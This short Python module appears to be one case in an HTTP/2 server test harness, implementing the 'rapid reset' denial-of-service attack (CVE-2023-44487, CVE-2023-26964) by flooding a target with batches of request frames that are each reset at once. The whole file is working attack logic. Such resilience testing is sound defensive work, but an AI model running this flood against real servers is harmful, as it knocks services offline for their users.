"""Streams that are reset as soon as they are opened (CVE-2023-44487, rapid reset;
CVE-2023-26964)."""

import frames
from attack import Attack

ATTACK = Attack(configurations=("deployments", "static"))


async def run(target):
    head = frames.head(b"/slow")

    def batches():
        for first in range(1, 1 << 24, 200):
            yield b"".join(frames.request(stream, head) + frames.reset(stream)
                           for stream in range(first, first + 200, 2))

    return await target.flood(8, frames.opening(), batches)
